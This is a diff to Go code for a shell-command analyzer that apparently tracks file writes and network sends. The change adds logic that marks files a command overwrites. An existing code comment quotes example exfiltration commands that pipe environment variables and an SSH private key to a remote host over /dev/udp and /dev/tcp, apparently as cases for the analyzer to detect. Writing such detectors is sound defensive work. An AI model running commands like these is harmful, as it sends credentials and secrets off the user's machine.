@@ -41,6 +41,9 @@ type Env struct {
 	// ("environment", "secret file PATH"; see FromPipe): xargs turns it into
 	// arguments, so whatever the command sends off the machine carries it.
 	PipedData string
+	// IfMissing are files (as written) the command line writes only when
+	// they do not exist yet: nothing already there is replaced.
+	IfMissing map[string]bool
 	// Understood, when set, reports a script file (absolute path) whose
 	// whole body the rule pass has read and allows: running it is known.
 	Understood func(abs string) bool
@@ -64,6 +67,7 @@ func Analyze(c *shell.Command, env Env) *Record {
 	r := &Record{Program: c.Name}
 	a := analysis{c: c, env: env, r: r}
 	a.run()
+	a.markReplaced()
 	for i := range r.Network {
 		if n := &r.Network[i]; n.Sends == outputSent {
 			// env > /dev/udp/203.0.113.9/53, cat ~/.ssh/id_rsa > /dev/tcp/…:
@@ -2056,6 +2060,7 @@ func (a *analysis) redirects() {
 			a.file(OpDelete, t, false)
 		case strings.Contains(rd.Op, ">"):
 			a.file(OpWrite, t, false)
+			a.r.Files[len(a.r.Files)-1].replaces = (rd.Op == ">" || rd.Op == ">|" || rd.Op == "&>") && !a.env.IfMissing[t]
 			if a.c.OutputKnown && (rd.Op == ">" || rd.Op == ">>" || rd.Op == ">|") {
 				f := &a.r.Files[len(a.r.Files)-1]
 				f.content, f.contentKnown = a.c.Output, true
@@ -2572,4 +2577,31 @@ func (a *analysis) goPrivateOnly() bool {
 		}
 	}
 	return true
+}
+
+// markReplaced marks the targets cp, mv, install and tee (without -a)
+// write as replaced: a file already there is overwritten whole (unless
+// -n/--no-clobber or --update=none keeps it).
+func (a *analysis) markReplaced() {
+	switch a.c.Name {
+	case "cp", "gcp", "mv", "gmv", "install", "ditto", "tee":
+	default:
+		return
+	}
+	for _, x := range a.c.Args {
+		switch {
+		case x == "--":
+			break
+		case x == "--no-clobber" || x == "--update=none" || x == "--update=none-fail" || x == "--append" || strings.HasPrefix(x, "--backup"):
+			return // kept, or kept as FILE~
+		case strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") &&
+			(strings.ContainsAny(x, "nb") && a.c.Name != "tee" || strings.ContainsRune(x, 'a') && a.c.Name == "tee"):
+			return
+		}
+	}
+	for i := range a.r.Files {
+		if f := &a.r.Files[i]; f.Op == OpWrite && !a.env.IfMissing[f.Path] {
+			f.replaces = true
+		}
+	}
 }
